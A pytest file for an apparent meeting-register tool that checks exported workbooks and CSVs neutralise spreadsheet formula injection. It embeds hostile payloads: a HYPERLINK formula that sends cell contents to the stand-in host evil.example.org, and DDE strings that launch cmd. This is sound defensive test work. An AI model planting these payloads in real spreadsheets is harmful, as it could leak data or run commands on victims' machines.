"""Threat: formulas smuggled into the spreadsheets the team opens (SECURITY.md).

Names, organisations and venues that start with ``= + - @`` (or a tab or carriage return) come
in through `lcpg import` as anybody typed them; whatever lcpg writes for a spreadsheet keeps
them as text: the exported workbook (every cell a string, none a formula), the exported CSV
folder, the compliance report's CSV and the CSV of the list commands. Exports still read back
as they were.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import create_engine, text

from lcpg.domain.cells import FORMULA_STARTS
from tests.cli.commands import run
from tests.samples import MEETINGS, csv_folder

PAYLOADS = (
    '=HYPERLINK("http://evil.example.org/?"&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
PEOPLE = "email,name,organisation\n" + "".join(
    f'p{i}@example.org,"{p.replace(chr(34), chr(34) * 2)}","{p.replace(chr(34), chr(34) * 2)}"\n'
    for i, p in enumerate(PAYLOADS)
)
MEMBERSHIPS = "body,email,sector,roles,start,end\n" + "".join(
    f"lcpg-sevenoaks,p{i}@example.org,additional,,2018-01-01,\n" for i in range(len(PAYLOADS))
)
VENUE = '=HYPERLINK("http://evil.example.org/","Room 2")'
STORED = {p.strip() for p in PAYLOADS}  # import trims the spaces, tabs and line breaks around


@pytest.fixture
def db(database_url: str, tmp_path: Path) -> str:
    """A register holding the payloads as names, organisations and a venue."""
    assert run(database_url, "init")[0] == 0
    meetings = MEETINGS.replace('"Gateway, Swanley"', f'"{VENUE.replace(chr(34), chr(34) * 2)}"')
    folder = csv_folder(
        tmp_path / "hostile",
        people=PEOPLE,
        memberships=MEMBERSHIPS,
        meetings=meetings,
        attendance="body,meeting_start,email,status\n",
    )
    code, out = run(database_url, "import", str(folder))
    assert code == 0, out
    return database_url


def risky(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def test_the_exported_workbook_holds_text_never_a_formula(db: str, tmp_path: Path) -> None:
    target = tmp_path / "register.xlsx"
    assert run(db, "export", str(target))[0] == 0
    workbook = openpyxl.load_workbook(target)
    values = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                values.append(cell.value)
    assert set(values) >= STORED and VENUE in values  # as text, unchanged
    # And it reads back as the same register.
    code, out = run(db, "import", str(target), "--dry-run")
    assert code == 0 and out.startswith("Nothing to change"), out


def test_the_exported_csv_folder_is_guarded_and_reads_back(db: str, tmp_path: Path) -> None:
    folder = tmp_path / "export"
    assert run(db, "export", str(folder))[0] == 0
    for path in folder.glob("*.csv"):
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")):
            assert not any(risky(cell) for cell in row), (path.name, row)
    code, out = run(db, "import", str(folder), "--dry-run")
    assert code == 0 and out.startswith("Nothing to change"), out


@pytest.mark.parametrize(
    "command",
    [
        ("members", "list", "--body", "lcpg-sevenoaks", "--format", "csv"),
        ("meetings", "list", "--format", "csv"),
        ("check", "--as-of", "2018-07-01", "--format", "csv"),
    ],
)
def test_csv_output_of_commands_is_guarded(db: str, command: tuple[str, ...]) -> None:
    code, out = run(db, *command)
    assert code == 0, out
    rows = list(csv.reader(io.StringIO(out, newline="")))
    assert len(rows) > 1
    assert not [cell for row in rows for cell in row if risky(cell)]
    if command[0] != "check":
        cells = {cell for row in rows for cell in row}
        assert {"'" + p for p in STORED} & cells or "'" + VENUE in cells


# Control characters: no workbook, calendar or e-mail header can carry them.


def test_a_control_character_already_in_the_register_does_not_stop_the_workbook_export(
    db: str, tmp_path: Path
) -> None:
    # Import refuses control characters (tests/fixtures/malformed), but a register written
    # before it did may hold one; openpyxl refuses them, so the export writes a space.
    engine = create_engine(db)
    with engine.begin() as connection:
        connection.execute(
            text("UPDATE meetings SET venue = :venue"), {"venue": "Room\x1b[31m 2\x07"}
        )
    engine.dispose()
    target = tmp_path / "register.xlsx"
    code, out = run(db, "export", str(target))
    assert code == 0, out
    rows = list(openpyxl.load_workbook(target)["meetings"].iter_rows(values_only=True))
    venues = [row[rows[0].index("venue")] for row in rows]
    assert "Room [31m 2 " in venues  # each control character a space
